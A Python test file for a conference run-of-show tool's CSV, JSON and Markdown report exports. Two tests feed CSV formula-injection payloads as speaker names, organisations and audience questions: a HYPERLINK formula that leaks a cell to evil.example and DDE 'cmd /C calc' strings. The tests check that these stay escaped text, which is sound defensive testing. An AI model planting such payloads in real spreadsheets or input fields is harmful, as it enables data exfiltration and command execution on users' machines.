from __future__ import annotations

import csv
import io
import json

from runofshow.core.clock import FakeClock
from runofshow.core.report import build_report
from runofshow.core.show import Show
from runofshow.files.report_formats import CSV_COLUMNS, to_csv, to_json, to_markdown
from tests.helpers.show import do


def a_report(show: Show, clock: FakeClock):
    do(show, clock, "start")
    clock.advance(100)
    do(show, clock, "speaker_next")
    clock.advance(61.5)
    do(show, clock, "speaker_next")
    clock.advance(10)
    do(show, clock, "message", to="moderator", text="Speaker | ready")
    return build_report(show, clock.now(), "s1")


def test_csv_has_one_header_and_a_row_per_segment_and_turn(show: Show, clock: FakeClock) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(a_report(show, clock)))))
    assert tuple(rows[0].keys()) == CSV_COLUMNS
    assert [r["record"] for r in rows] == ["segment"] * 5 + ["turn"] * 2
    turn = rows[5]
    assert (turn["segment"], turn["speaker"], turn["spoken_s"], turn["allotted_s"]) == (
        "opening", "Moderator (placeholder)", "61.5", "60.0",
    )  # fmt: skip
    assert rows[1]["start"] == "" and rows[0]["status"] == "live"


def test_json_and_markdown(show: Show, clock: FakeClock) -> None:
    report = a_report(show, clock)
    data = json.loads(to_json(report))
    assert data["session"] == "s1" and len(data["segments"]) == 5 and len(data["turns"]) == 2
    assert data["totals"]["people"][0]["name"] == "Moderator (placeholder)"
    assert data["messages"][0]["text"] == "Speaker | ready"
    md = to_markdown(report)
    assert md.startswith("# The UN Convention against Cybercrime")
    assert "| 1 | Opening remarks | 14:00:00 | 6:00 | 13:59:00 | — |" in md  # started early, still live
    assert "Speaker \\| ready" not in md and "to the moderator: Speaker | ready" in md
    assert "## Sectors" in md


def test_questions_are_in_the_report(show: Show, clock: FakeClock) -> None:
    do(show, clock, "goto", segment="cross-border")
    do(show, clock, "start")
    do(show, clock, "question", question="q1", status="asked", to="Speaker One")
    report = build_report(show, clock.now(), "s1")
    data = json.loads(to_json(report))
    asked = next(q for q in data["questions"] if q["segment"] == "cross-border" and q["id"] == "q1")
    assert asked["status"] == "asked" and asked["to"] == "Speaker One"
    assert "- [x] Panel 1: Cross-border collaboration:" in to_markdown(report) and "(to Speaker One)" in to_markdown(
        report
    )


def test_markdown_reads_as_words_not_ids(show: Show, clock: FakeClock) -> None:
    do(show, clock, "start")
    do(show, clock, "speaker_add", name="Ms Floor", type="point_of_order")
    do(show, clock, "speaker_next")
    clock.advance(30)
    do(show, clock, "message", to="speaker", text="PLEASE CONCLUDE")
    md = to_markdown(build_report(show, clock.now(), "s1"))
    assert "| Opening remarks | Ms Floor | Point of order |" in md  # the title, the words
    assert "point_of_order" not in md and "| opening |" not in md
    assert "to the speaker: PLEASE CONCLUDE, shown on the speaker display" in md
    assert "not acknowledged" not in md


def test_a_name_from_the_floor_stays_text_in_the_csv(show: Show, clock: FakeClock) -> None:
    """A phone's /floor name is any text: in the organisers' spreadsheet it must not be a formula."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open the agenda")'
    do(show, clock, "start")
    do(show, clock, "floor_request", name=hostile, type="statement", organization="+cmd|' /C calc'!A0")
    do(show, clock, "floor_accept", request="r1", position=0)
    do(show, clock, "speaker_next")
    clock.advance(20)
    do(show, clock, "next")  # the opening ends early: its over/under is a negative number, and stays one
    rows = list(csv.DictReader(io.StringIO(to_csv(build_report(show, clock.now(), "s1")))))
    turn = next(r for r in rows if r["record"] == "turn" and hostile in r["speaker"])
    assert turn["speaker"] == "'" + hostile and turn["organization"] == "'+cmd|' /C calc'!A0"
    assert not [value for row in rows for value in row.values() if value.startswith(("=", "+", "@"))]
    signed = [row["over_under_s"] for row in rows if row["over_under_s"]]
    assert any(value.startswith("-") for value in signed) and not any(value.startswith("'") for value in signed)


def test_every_format_says_each_segments_timer_mode(show: Show, clock: FakeClock) -> None:
    do(show, clock, "segment_update", segment="opening", fields={"count": "up"})
    do(show, clock, "segment_update", segment="cross-border", fields={"count": "to 14:18"})
    report = a_report(show, clock)
    rows = [r for r in csv.DictReader(io.StringIO(to_csv(report))) if r["record"] == "segment"]
    assert [r["count"] for r in rows[:3]] == ["up", "to 14:18", "down"]
    assert [s["count"] for s in json.loads(to_json(report))["segments"][:2]] == ["up", "to 14:18"]
    md = to_markdown(report)
    assert "| 6:00 · up |" in md and "| 12:00 · to 14:18 |" in md


def test_the_audiences_questions_are_in_every_report(show: Show, clock: FakeClock) -> None:
    """CSV, JSON and Markdown (the PDF: tests/e2e/ui/test_report_pdf.py): each question from the
    audience with who sent it and what became of it; a hostile one stays text in the CSV."""
    do(show, clock, "start")
    do(show, clock, "audience_question", text="Who pays for the platform?", device="p1", name="Lan", organization="VNU")
    do(show, clock, "audience_question", text="=cmd|' /C calc'!A0", device="p2")
    do(show, clock, "audience_question", text="And who pays?", device="p3")
    do(show, clock, "audience_moderate", question="a3", decision="merge", into="a1")
    do(show, clock, "audience_moderate", question="a1", decision="approve", text="Who funds the platform?")
    do(show, clock, "audience_moderate", question="a2", decision="reject")
    do(show, clock, "question", question="a1", status="asked")
    report = build_report(show, clock.now(), "s1")
    rows = [r for r in csv.DictReader(io.StringIO(to_csv(report))) if r["record"] == "audience_question"]
    assert [(r["status"], r["speaker"], r["text"], r["segment"]) for r in rows] == [
        ("asked", "Lan", "Who funds the platform?", "opening"),
        ("rejected", "", "'=cmd|' /C calc'!A0", ""),
        ("merged", "", "And who pays?", ""),
    ]
    data = json.loads(to_json(report))
    assert [(q["id"], q["status"], q["bank"]) for q in data["audience_questions"]] == [
        ("a1", "approved", "asked"),
        ("a2", "rejected", None),
        ("a3", "merged", "asked"),
    ]
    asked = next(q for q in data["questions"] if q["id"] == "a1")
    assert (asked["from"], asked["name"], asked["status"]) == ("audience", "Lan", "asked")
    md = to_markdown(report)
    assert "- [x] Opening remarks: Who funds the platform? (from the audience: Lan)" in md
    assert "## Questions from the audience" in md
    assert "a1: Who funds the platform? (sent as: Who pays for the platform?) | Lan, VNU | asked (+1 similar) |" in md
    assert "| merged into a1 |" in md
